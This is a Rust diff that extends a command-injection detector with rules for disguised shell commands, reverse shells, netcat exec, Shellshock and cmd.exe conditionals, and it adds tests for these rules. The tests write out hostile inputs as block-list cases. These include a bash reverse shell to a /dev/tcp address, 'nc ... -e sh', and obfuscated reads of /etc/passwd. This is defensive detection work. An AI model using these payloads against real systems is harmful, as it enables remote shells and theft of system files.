@@ -120,6 +120,52 @@ fn rare(word: &str) -> bool {
     )
 }
 
+/// A rare command, also with a version number glued on (`python3.10`, `gcc7.4`).
+fn rare_cmd(word: &str) -> bool {
+    rare(word) || {
+        let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        base.len() >= 2 && base.len() < word.len() && rare(base)
+    }
+}
+
+/// Words that run the command after them (`time sh -c id`, `strace whoami`): the command that
+/// matters is the next word that is not an option or a number.
+fn prefix(word: &str) -> bool {
+    matches!(
+        word,
+        "time"
+            | "timeout"
+            | "strace"
+            | "ltrace"
+            | "nohup"
+            | "cpulimit"
+            | "sudo"
+            | "xargs"
+            | "setsid"
+            | "stdbuf"
+            | "unbuffer"
+            | "chroot"
+            | "eval"
+    )
+}
+
+/// Past a prefix word and its options: the command it runs, and what follows that.
+fn prefixed(mut rest: &str) -> (&str, &str) {
+    for _ in 0..6 {
+        let r = rest.trim_start_matches([' ', '\t']);
+        let end = r.find([' ', '\t', ';', '|', '&', '\n']).unwrap_or(r.len());
+        let token = &r[..end];
+        if token.starts_with('-')
+            || (!token.is_empty() && token.bytes().all(|b| b.is_ascii_digit()))
+        {
+            rest = &r[end..];
+            continue;
+        }
+        return command_word(r);
+    }
+    ("", "")
+}
+
 /// Commands that are also words: they need attacker-shaped arguments. (a `match`: a length switch, then one comparison)
 fn wordlike(word: &str) -> bool {
     matches!(
@@ -188,49 +234,411 @@ static POWERSHELL: WordSet = WordSet::new(&[
 ]);
 
 /// The shell's own view of a value: quotes, backslashes and carets removed, as `c'a't`,
-/// `ca\t` and `w^hoami` all run the same command.
+/// `ca\t` and `w^hoami` all run the same command; so are expansions that give nothing (`$*`,
+/// `$@`, `$()`, `${}`, and `$u` or `$_` glued to a word: `c$*at`, `uname$u -a`).
 fn unquoted(l: &str) -> Option<String> {
-    l.contains(['\'', '"', '\\', '^']).then(|| {
-        l.chars()
-            .filter(|c| !matches!(c, '\'' | '"' | '\\' | '^'))
-            .collect()
-    })
+    let special = |c: &u8| matches!(c, b'\'' | b'"' | b'\\' | b'^' | b'$');
+    let b = l.as_bytes();
+    let mut i = b.iter().position(special)?;
+    let mut out = String::with_capacity(l.len());
+    let mut changed = false;
+    let mut run = 0;
+    // Copy the runs between the (ASCII, so boundary-safe) special bytes.
+    loop {
+        out.push_str(&l[run..i]);
+        let skip = match b[i] {
+            b'$' => empty_expansion(&b[i..], i > 0 && b[i - 1].is_ascii_alphanumeric()),
+            _ => 1,
+        };
+        changed |= skip > 0;
+        run = if skip > 0 { i + skip } else { i };
+        let from = i + skip.max(1);
+        match b[from.min(b.len())..].iter().position(special) {
+            Some(n) => i = from + n,
+            None => break,
+        }
+    }
+    out.push_str(&l[run.min(l.len())..]);
+    changed.then_some(out)
 }
 
-/// cmd.exe conditionals: `IF EXIST file CMD`, `IF NOT EXIST`, `IF ERRORLEVEL 1`, at the start of
-/// a value or after a separator (`c` has whitespace runs collapsed).
-fn cmd_conditional(c: &str) -> bool {
-    if !c.contains("if ") {
+/// The length of an expansion at the start of `b` that the shell turns into nothing.
+fn empty_expansion(b: &[u8], glued: bool) -> usize {
+    match (b.get(1), b.get(2)) {
+        (Some(b'*' | b'@'), _) => 2,
+        // Last background job and last status: nothing, or a digit, between letters.
+        (Some(b'!' | b'?'), Some(n)) if glued && n.is_ascii_alphabetic() => 2,
+        (Some(b'('), Some(b')')) | (Some(b'{'), Some(b'}')) => 3,
+        // A one-letter variable nobody set, inside or at the end of a word.
+        (Some(c), next)
+            if glued
+                && (c.is_ascii_lowercase() || *c == b'_')
+                && !next.is_some_and(|n| n.is_ascii_alphanumeric()) =>
+        {
+            2
+        }
+        (Some(b'_'), Some(n)) if glued && n.is_ascii_alphabetic() => 2,
+        _ => 0,
+    }
+}
+
+/// Whether the value's first word is spelled so that only the shell reads it as a command:
+/// a quote, escape or empty expansion between its letters (`'wh'oami`, `"w"get`, `uname$u`).
+/// Quotes around a whole word do not count.
+fn disguised_first_word(l: &str) -> bool {
+    let t = l.trim_start();
+    let token = &t[..t.find([' ', '\t']).unwrap_or(t.len())];
+    let b = token.as_bytes();
+    let (Some(first), Some(last)) = (
+        b.iter().position(u8::is_ascii_alphanumeric),
+        b.iter().rposition(u8::is_ascii_alphanumeric),
+    ) else {
+        return false;
+    };
+    // An expansion may also end the word (`ping$()`); quotes must sit inside it.
+    b[first..].contains(&b'$')
+        || first < last
+            && b[first..last]
+                .iter()
+                .any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'^'))
+}
+
+/// cmd.exe's `IF`, at the start of a value or after a separator (`c` has whitespace runs
+/// collapsed): the conditionals (`IF EXIST file CMD`, `IF NOT EXIST`, `IF ERRORLEVEL 1`), which
+/// count anywhere, and the comparisons (`if %a% gtr %b% echo`, `if not (2 equ 2) echo hey`,
+/// `IF "%var%"=="" (SET var=x)`: an operator, then a batch command or a block), which are
+/// `comparison`.
+fn cmd_if(c: &str) -> Option<&'static str> {
+    const CONDS: [&str; 7] = [
+        "exist ",
+        "not exist ",
+        "errorlevel ",
+        "defined ",
+        "not defined ",
+        "not errorlevel ",
+        "/i ",
+    ];
+    const OPS: [&str; 7] = ["==", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq "];
+    const VERBS: [&str; 14] = [
+        "echo", "set", "goto", "call", "cmd", "cd", "exit", "del", "copy", "start", "move",
+        "mkdir", "rmdir", "type",
+    ];
+    // The first few statements only: each comparison is searched to the end of the value.
+    for p in if_finder()
+        .find_iter(c.as_bytes())
+        .filter(|p| opens_at(c, *p))
+        .take(4)
+    {
+        let rest = &c[p + 3..];
+        if CONDS.iter().any(|cond| rest.starts_with(cond)) {
+            return Some("cmd-conditional");
+        }
+        // Batch syntax, not prose: `==` glued to an operand (`red==red`), or `%var%` or quotes
+        // in the statement.
+        let batch = rest.contains(['%', '"']);
+        let compared = OPS
+            .iter()
+            .filter_map(|op| rest.find(op).map(|i| (i, op)))
+            .filter(|(i, op)| {
+                **op != "=="
+                    || batch
+                    || rest[..*i].ends_with(|c: char| c != ' ')
+                    || rest[i + 2..].starts_with(|c: char| c != ' ')
+            })
+            .map(|(i, op)| &rest[i + op.len()..])
+            .any(|after| {
+                after.trim_end().ends_with('(')
+                    || after
+                        .split([' ', '(', ')', '@'])
+                        .skip(1)
+                        .any(|w| VERBS.contains(&w))
+            });
+        if compared {
+            return Some("comparison");
+        }
+    }
+    None
+}
+
+fn opens_at(c: &str, p: usize) -> bool {
+    let before = c[..p].trim_end_matches([' ', '@']);
+    before.is_empty() || before.ends_with(['&', '|', ';', '\n', '('])
+}
+
+/// Shapes that are commands wherever they stand, no separator needed: a shell started with `-c`
+/// or interactively, a reverse shell's `/dev/tcp/`, netcat told to run a program, a Shellshock
+/// function definition, brace expansion around a command, an `alias` definition, a first word
+/// spelled so that only the shell reads it, a command run by `time` or `strace`.
+fn standalone(l: &str, u: Option<&str>, place: Place) -> Option<&'static str> {
+    let t = l.trim_start();
+    let (mut netcat, mut option) = (None, false);
+    let b = l.as_bytes();
+    // The marks the shapes need start with `-`, `/` or `(`, which prose seldom has: memchr
+    // finds them without looking at each byte in turn.
+    for at in memchr::memchr3_iter(b'-', b'/', b'(', b) {
+        let space_before = at > 0 && b[at - 1] == b' ';
+        match b[at] {
+            b'-' if space_before => {
+                if shell_flag(l, at - 1) {
+                    return Some("shell-invocation");
+                }
+                option = true;
+            }
+            b'/' if space_before
+                && matches!(b.get(at + 1), Some(b'c' | b'k'))
+                && shell_flag(l, at - 1) =>
+            {
+                return Some("shell-invocation");
+            }
+            b'/' if l[at..].starts_with("/dev/tcp/") || l[at..].starts_with("/dev/udp/") => {
+                return Some("reverse-shell");
+            }
+            b'(' if l[at..].starts_with("() {") => {
+                // `() { :; };` anywhere; a bare `() {` only opening a header or cookie, which
+                // a CGI server turns into an environment variable that bash runs.
+                let shock = l[at + 4..].trim_start().starts_with(":;")
+                    || at == l.len() - t.len() && matches!(place, Place::Header | Place::Cookie);
+                if shock {
+                    return Some("shellshock");
+                }
+            }
+            _ => {}
+        }
+    }
+    let brace = memchr::memchr(b'{', b).map(|at| at + 1);
+    // Netcat only matters with an option to give it.
+    if option {
+        netcat = ["nc ", "ncat ", "netcat "].iter().find_map(|w| {
+            l.match_indices(w)
+                .find(|(at, _)| *at == 0 || !b[at - 1].is_ascii_alphanumeric())
+                .map(|(at, _)| at + w.len())
+        });
+    }
+    if let (Some(end), true) = (netcat, option) {
+        let exec = l[end..].split([' ', '\t']).any(|a| {
+            matches!(a, "-e" | "-c" | "--exec" | "--sh-exec")
+                || a.starts_with('-') && a.len() <= 6 && a.contains('l') && a.contains('p')
+        });
+        if exec {
+            return Some("netcat-exec");
+        }
+    }
+    if let Some(p) = brace {
+        // `{cat,/etc/passwd}`, and `{,ifconfig}` (a leading comma makes any list expand).
+        let inner = l[p..].trim_start_matches(',');
+        let led = inner.len() < l.len() - p;
+        let (word, rest) = command_word(inner);
+        if let Some(args) = rest.strip_prefix(',') {
+            if rare_cmd(word) || wordlike(word) && attacker_args(word, args) {
+                return Some("brace-expansion");
+            }
+        } else if led && rest.starts_with('}') && rare_cmd(word) {
+            return Some("brace-expansion");
+        }
+    }
+    // A here-string feeding a command to a shell or a substitution: `cat<<<'ifconfig' | sh`.
+    if let Some(p) = memchr::memmem::find(l.as_bytes(), b"<<<") {
+        let (word, _) = command_word(&l[p + 3..]);
+        if rare_cmd(word) || wordlike(word) {
+            return Some("here-string");
+        }
+    }
+    if let Some(def) = t.strip_prefix("alias ") {
+        let name_end = def.find('=').unwrap_or(0);
+        if name_end > 0
+            && def[..name_end]
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'\'' | b'"'))
+        {
+            return Some("alias-definition");
+        }
+    }
+    if disguised_first_word(t) {
+        if let Some(u) = u {
+            let (word, rest) = command_word(u.trim_start());
+            let args = rest.trim_start();
+            if rare_cmd(word) && boundary(rest)
+                || wordlike(word) && attacker_args(word, rest) && !args.is_empty()
+            {
+                return Some("disguised-command");
+            }
+        }
+    }
+    if place == Place::JsonString {
+        return None;
+    }
+    // `/usr/bin/python3 -m http.server`, `/bin/unxz -c file`: a program named by its path in a
+    // system folder, given arguments.
+    for dir in [
+        "/bin/",
+        "/usr/bin/",
+        "/sbin/",
+        "/usr/sbin/",
+        "/usr/local/bin/",
+    ] {
+        if let Some(cmd) = t.strip_prefix(dir) {
+            let end = cmd.find([' ', '\t']).unwrap_or(cmd.len());
+            let name_ok = end > 0
+                && cmd[..end]
+                    .bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
+            if name_ok && cmd[end..].trim_start().starts_with(['-', '/', '\'', '"']) {
+                return Some("system-binary");
+            }
+        }
+    }
+    // `time sh -c id`, and the prefix disguised: `ti''me who`, `"time" who`.
+    let view = u.map_or(t, str::trim_start);
+    if !prefix(first_word(view.trim_start_matches(['"', '\'']))) {
+        return None;
+    }
+    let (_, rest) = command_word(view);
+    let (word, rest) = prefixed(rest);
+    (rare_cmd(word) && boundary(rest) || wordlike(word) && attacker_args(word, rest))
+        .then_some("prefixed-command")
+}
+
+/// What may follow a command's name: nothing, a space, or shell syntax.
+fn boundary(rest: &str) -> bool {
+    rest.is_empty()
+        || rest.starts_with([
+            ' ', '\t', '\n', '\r', ';', '|', '&', '$', '<', '>', '\'', '"', ')', '`',
+        ])
+}
+
+/// `sh -c`, `bash -i`, `/bin/sh -c`, `${SHELL} -c`, `cmd /c`, `cmd.exe /k`: the option at `i`
+/// (a space, then `-` or `/`) given to a shell.
+fn shell_flag(l: &str, i: usize) -> bool {
+    const SHELLS: [&str; 11] = [
+        "sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "ash", "${shell}", "$shell", "busybox",
+    ];
+    let dash = l.as_bytes()[i + 1] == b'-';
+    let flag = &l[i + 2..];
+    let flag_end = flag
+        .find(|c: char| !c.is_ascii_alphabetic())
+        .unwrap_or(flag.len());
+    let ok_flag = if dash {
+        matches!(
+            &flag[..flag_end],
+            "c" | "i" | "ic" | "ci" | "lc" | "li" | "il"
+        )
+    } else {
+        matches!(&flag[..flag_end], "c" | "k")
+    };
+    let after_ok = flag[flag_end..].is_empty()
+        || flag[flag_end..].starts_with([' ', '\'', '"', '>', '<', '\t']);
+    if !ok_flag || !after_ok {
         return false;
     }
-    [
-        "if exist ",
-        "if not exist ",
-        "if errorlevel ",
-        "if defined ",
-        "if /i ",
-    ]
-    .iter()
-    .any(|cond| {
-        c.match_indices(cond).any(|(p, _)| {
-            let before = c[..p].trim_end();
-            before.is_empty() || before.ends_with(['&', '|', ';', '\n', '('])
+    let before = l[..i].trim_end_matches(' ');
+    let start = before
+        .rfind(|c: char| {
+            !(c.is_ascii_alphanumeric()
+                || matches!(c, '/' | '.' | '_' | '-' | '$' | '{' | '}' | '\\'))
         })
-    })
+        .map_or(0, |p| p + 1);
+    let word = &before[start..];
+    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    if dash {
+        SHELLS.contains(&base)
+    } else {
+        matches!(base, "cmd" | "cmd.exe")
+    }
+}
+
+/// Outside JSON text, what wakes this detector besides the signals' triggers: quotes or escapes
+/// (a disguised command), a cmd.exe `if`, a value starting with a word that runs the next one.
+/// Kept out of the shared triggers so that JSON prose, full of apostrophes and "if", does not
+/// pay for rules that do not apply to it.
+pub fn outside_json(l: &str) -> bool {
+    l.bytes().any(|b| matches!(b, b'\'' | b'"' | b'\\' | b'^'))
+        || if_finder().find(l.as_bytes()).is_some()
+        || {
+            let t = l.trim_start();
+            let w = first_word(t);
+            prefix(w)
+                || w == "alias"
+                || ["/bin/", "/usr/", "/sbin/"]
+                    .iter()
+                    .any(|d| t.starts_with(d))
+        }
+}
+
+/// The leading letters of `t`: enough to tell a prefix word or `alias`.
+fn first_word(t: &str) -> &str {
+    &t[..t
+        .bytes()
+        .position(|b| !b.is_ascii_alphabetic())
+        .unwrap_or(t.len())]
+}
+
+fn if_finder() -> &'static memchr::memmem::Finder<'static> {
+    static F: std::sync::OnceLock<memchr::memmem::Finder<'static>> = std::sync::OnceLock::new();
+    F.get_or_init(|| memchr::memmem::Finder::new(b"if "))
 }
 
 pub fn check(v: &Normalized<'_>, place: Place, out: &mut Vec<Hit>) {
-    if cmd_conditional(v.compact.as_ref()) {
-        out.push(Hit::new(Detector::Cmdi, "cmd-conditional", CRITICAL, 1));
+    inspect(v, place, true, out);
+}
+
+/// `triggered`: the value holds one of the signals' triggers for this detector. Without one,
+/// the separator and substitution rules cannot match the value as it stands, only its
+/// unquoted view.
+pub fn inspect(v: &Normalized<'_>, place: Place, triggered: bool, out: &mut Vec<Hit>) {
+    // Outside JSON text these are attacks; in a JSON string they may be a snippet in a
+    // developer's message, which counts below the threshold on its own.
+    let score = if place == Place::JsonString {
+        ERROR
+    } else {
+        CRITICAL
+    };
+    match cmd_if(v.compact.as_ref()) {
+        Some("comparison") => {
+            out.push(Hit::new(Detector::Cmdi, "cmd-conditional", score, 1));
+            return;
+        }
+        Some(rule) => {
+            out.push(Hit::new(Detector::Cmdi, rule, CRITICAL, 1));
+            return;
+        }
+        None => {}
+    }
+    let l = v.lower.as_ref();
+    let u = if place != Place::JsonString || disguised_first_word(l) {
+        unquoted(l)
+    } else {
+        None
+    };
+    if let Some(rule) = standalone(l, u.as_deref(), place) {
+        out.push(Hit::new(Detector::Cmdi, rule, score, 1));
         return;
     }
     let before = out.len();
-    check_view(v.lower.as_ref(), place, out);
+    if triggered {
+        check_view(l, place, out);
+    }
     if out.len() == before && place != Place::JsonString {
-        if let Some(u) = unquoted(v.lower.as_ref()) {
-            check_view(&u, place, out);
+        if let Some(u) = &u {
+            check_view(u, place, out);
         }
     }
+}
+
+/// `c=cat&&$c /etc/passwd`: a command named through a variable the value itself assigned.
+fn variable_command(l: &str, after: &str) -> bool {
+    let Some(var) = after.trim_start().strip_prefix('$') else {
+        return false;
+    };
+    let var = var.trim_start_matches('{');
+    let end = var
+        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+        .unwrap_or(var.len());
+    if end == 0 || !var.as_bytes()[0].is_ascii_alphabetic() {
+        return false;
+    }
+    let assign = format!("{}=", &var[..end]);
+    l.match_indices(&assign)
+        .any(|(p, _)| p == 0 || matches!(l.as_bytes()[p - 1], b';' | b'&' | b'|' | b' ' | b'\n'))
 }
 
 /// A backtick at `at` that opens inline code in free text: the value is prose (several words
@@ -344,14 +752,21 @@ fn check_view(l: &str, place: Place, out: &mut Vec<Hit>) {
     };
     {
         let mut from = 0;
+        let mut variables = 0usize;
         while let Some(p) = l[from..].find(seps) {
             let at = from + p + 1;
             let after = l[at..].trim_start_matches(['|', '&']);
-            let (word, rest) = command_word(after);
-            if rare(word)
-                && (rest.is_empty()
-                    || rest.starts_with([' ', '\t', ';', '|', '&', '$', '<', '>', '\'', '"']))
-            {
+            variables += usize::from(after.trim_start().starts_with('$'));
+            // Each check searches the whole value for the assignment: the first few only.
+            if variables <= 4 && variable_command(l, after) {
+                out.push(Hit::new(Detector::Cmdi, "variable-command", CRITICAL, 1));
+                return;
+            }
+            let (mut word, mut rest) = command_word(after);
+            if prefix(word) {
+                (word, rest) = prefixed(rest);
+            }
+            if rare_cmd(word) && boundary(rest) {
                 out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                 return;
             }
@@ -398,6 +813,61 @@ mod tests {
             "x & if not exist c:\\x (echo y)",
         ] {
             assert!(blocked(s, Place::Query), "{s}");
+        }
+    }
+
+    #[test]
+    fn commands_without_a_separator_are_caught() {
+        for s in [
+            "/bin/bash -c \"sh -i>& /dev/tcp/172.17.0.1/54321 0>&1\"",
+            "time sh -c whoami",
+            "cpulimit -l 100 -f whoami",
+            "ti''me who",
+            "'wh'oami",
+            "\"w\"get localhost",
+            "uname$u -a",
+            "ping$() 127.0.0.1",
+            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+            "www.google.com;c$*at /et$*c/pas$*swd",
+            "{cat,/etc/passwd}",
+            "{,ifconfig}",
+            "cat<<<'ifconfig' | sh",
+            "alias ls-al='ls -al'",
+            "/usr/bin/python3 -m http.server",
+            "x nc 10.0.0.1 4444 -e sh",
+            "IF %ERRORLEVEL% LEQ 2 echo test",
+            "if red==red echo test",
+        ] {
+            assert!(blocked(s, Place::Query), "{s}");
+        }
+        assert!(blocked("() {", Place::Header));
+        assert!(blocked("() { :; }; echo vulnerable", Place::JsonKey));
+    }
+
+    #[test]
+    fn look_alikes_of_the_standalone_shapes_pass() {
+        for (s, place) in [
+            (
+                "Time flies like an arrow; fruit flies like a banana.",
+                Place::Query,
+            ),
+            (
+                "If you're happy and you know it, clap your hands.",
+                Place::Query,
+            ),
+            ("if a == b then echo the value back", Place::Query),
+            ("I'd go with the blue one", Place::Query),
+            ("Don't \"quote\" me on that", Place::Query),
+            ("alias John Smith", Place::Query),
+            ("/usr/bin/python3 is the interpreter", Place::Query),
+            ("{first,last} name", Place::Query),
+            ("() {} is an empty arrow function body", Place::Query),
+            ("The nc command is netcat; we block it.", Place::Query),
+            ("sudo make me a sandwich", Place::Query),
+            // In JSON text a shell snippet is a message, not a command line.
+            ("run it with bash -c 'make test'", Place::JsonString),
+        ] {
+            assert!(!blocked(s, place), "{s}");
         }
     }
 
